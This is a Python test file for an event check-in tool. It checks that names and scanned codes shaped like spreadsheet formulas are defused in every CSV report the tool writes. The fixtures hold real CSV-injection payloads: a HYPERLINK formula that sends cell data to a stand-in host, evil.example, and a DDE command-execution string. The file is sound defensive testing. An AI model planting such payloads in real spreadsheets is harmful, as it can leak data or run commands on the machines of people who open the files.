"""The formula-cell attack: attendees named like spreadsheet formulas, and a scanned code
that is one, go through import, check-in and `accueil report`; no CSV cell the project
writes may then start a formula in Excel or LibreOffice, and nothing is lost."""

from __future__ import annotations

import csv
import io
import re

from hypothesis import given
from hypothesis import strategies as st

import main
from sync import csvfile
from sync.reports.compute import Table
from sync.reports.writers import csv_text
from tests.conftest import ROOT, demo_config

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    # (id, first_name, last_name, email, organisation, code)
    ("X1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "Ouali", "x1@example.org",
     "=1+1", "XCODE-1"),
    ("X2", "+cmd", "@SUM(A1:A9)", "=x2@example.org", "-2+3", "+XCODE-2"),
    ("X3", "Nora", "-Benali", "x3@example.org", "+212 600 000 000", "@XCODE-3"),
]  # fmt: skip
HOSTILE_SCANS = ["=1+2", "-XCODE-404", "@evil", '=cmd|"/c calc"!A1']


def _is_formula(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", cell)


def test_no_cell_of_any_report_csv_starts_a_formula(tmp_path, capsys):
    config = str(demo_config(tmp_path))
    assert main.main(["--config", config, "setup"]) == 0
    hostile = tmp_path / "hostile.csv"
    with hostile.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)  # the attacker's file: written raw on purpose
        w.writerow(["id", "first_name", "last_name", "email", "organisation", "codes"])
        w.writerows(HOSTILE)
    assert main.main(["--config", config, "import", str(hostile)]) == 0
    for *_, code in HOSTILE:
        assert main.main(["--config", config, "checkin", "--", code]) == 0
    for code in HOSTILE_SCANS:
        assert main.main(["--config", config, "checkin", "--", code]) == 1
    out = tmp_path / "report"
    assert main.main(["--config", config, "report", "--kiosk", "--out", str(out)]) == 0
    capsys.readouterr()

    files = sorted(out.rglob("*.csv"))
    assert len(files) >= 10
    cells: list[str] = []
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as f:
            for line, row in enumerate(csv.reader(f), 1):
                for column, cell in enumerate(row, 1):
                    assert not _is_formula(cell), f"{path.name}:{line}:{column}: {cell!r}"
                    cells.append(cell)
    # Nothing lost: each hostile text is there, behind one apostrophe.
    for text in ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd", "@SUM(A1:A9)",
                 "-Benali", "=x2@example.org", "+XCODE-2"):  # fmt: skip
        assert "'" + text in cells, text
    assert "'=1+2" in cells  # the refused scan's code in the scan log export


@given(st.text(max_size=30))
def test_neutralise_defuses_every_formula_start_and_keeps_the_text(text: str) -> None:
    cell = csvfile.neutralise(text)
    assert not _is_formula(cell)
    assert cell == text or (cell == "'" + text and text.startswith(TRIGGERS))


@given(st.lists(st.lists(st.one_of(st.text(max_size=12), st.integers()), min_size=2, max_size=2),
                max_size=8))  # fmt: skip
def test_csv_text_round_trips_all_but_the_defusing_apostrophe(rows: list[list[object]]) -> None:
    table = Table("t", "T", ("a", "b"), [tuple(r) for r in rows])
    back = list(csv.reader(io.StringIO(csv_text(table, excel=True).removeprefix("\ufeff"))))
    assert back[0] == ["a", "b"]
    for written, original in zip(back[1:], rows, strict=True):
        for cell, value in zip(written, original, strict=True):
            assert not _is_formula(cell)
            restored = cell[1:] if cell != str(value) and cell.startswith("'") else cell
            assert restored == str(value)


def test_every_csv_writer_in_the_project_goes_through_the_helper():
    """A new `csv.writer` or `csv.DictWriter` outside sync/csvfile.py would write raw cells."""
    offenders = []
    sources = [ROOT / "main.py"] + [
        path
        for folder in ("kiosk", "sync", "printers", "bench", "demo", "scripts")
        for path in (ROOT / folder).rglob("*.py")
    ]
    for path in sources:
        rel = path.relative_to(ROOT).as_posix()
        if rel == "sync/csvfile.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\b", text):
            offenders.append(rel)
    assert offenders == []
